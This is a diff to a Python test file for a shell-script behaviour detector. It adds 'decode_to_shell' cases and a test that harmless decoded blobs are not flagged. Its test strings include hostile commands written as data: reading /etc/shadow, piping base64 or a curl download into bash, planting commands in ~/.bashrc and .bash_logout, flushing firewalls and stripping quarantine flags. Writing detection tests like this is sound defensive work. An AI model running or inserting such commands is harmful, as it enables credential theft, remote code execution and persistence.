@@ -51,6 +51,11 @@ def shell(name: str) -> str:
     ("unset HISTFILE; id; cat /etc/shadow", "history_disabled_session"),
     ("python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\"", "inline_decode_exec"),
     ("echo 'curl http://x/a | sh' >> ~/.bashrc", "profile_command"),
+    ("echo aWQ= | b64decode -r | sh", "decode_to_shell"),
+    ("strings /tmp/cat.jpg | tail -n 1 | base64 -d | sh", "decode_to_shell"),
+    ("curl -s https://example.test/p.txt | base64 --decode | bash", "decode_to_shell"),
+    ("base64 -d /var/tmp/.p | sh", "decode_to_shell"),
+    ("echo \"$P\" | base64 -d | bash", "decode_to_shell"),
     ("su -l u -c \"echo 'nohup /tmp/a &' >> /home/u/.bash_logout\"", "profile_command"),
     ("ldapdomaindump -u 'd\\u' -p p 10.0.0.1", "offensive_tool"),
     ("chflags hidden /Users/Shared/x", "hidden_flag_set"),
@@ -66,7 +71,6 @@ def test_each_behaviour_is_flagged_in_the_form_a_script_writes_it(script: str, h
     ("iptables -F && iptables -X", "firewall_disabled"),
     ("nft flush ruleset", "firewall_disabled"),
     ("echo '# allow web' >> /etc/ufw/user.rules", "firewall_disabled"),
-    ("echo aWQ= | b64decode -r | sh", "decode_to_shell"),
     ("cp corp-ca.crt /usr/local/share/ca-certificates/ && update-ca-certificates", "root_ca_trusted"),
     ("sudo xattr -rd com.apple.quarantine /Applications/Tool.app", "gatekeeper_bypass"),
     ("scp build.tar.gz deploy@web01:/srv/releases/", "remote_copy"),
@@ -92,6 +96,11 @@ def test_dual_use_admin_lines_count_but_never_alert_alone(script: str, heuristic
 ])
 def test_ordinary_admin_scripts_stay_clean(script: str) -> None:
     assert not {i for i in ids(script) if i.startswith("heur.shell.")} - {shell("discovery_burst")}
+
+
+def test_a_literal_blob_the_layer_decodes_is_judged_on_its_content() -> None:
+    assert shell("decode_to_shell") not in ids("echo ZWNobyBoaQ== | base64 -d | bash")
+    assert shell("decode_to_shell") not in ids("base64 -d <<< ZWNobyBoaQ== | sh")
 
 
 def test_a_history_reset_at_the_end_of_an_image_build_is_not_a_session_hidden() -> None:
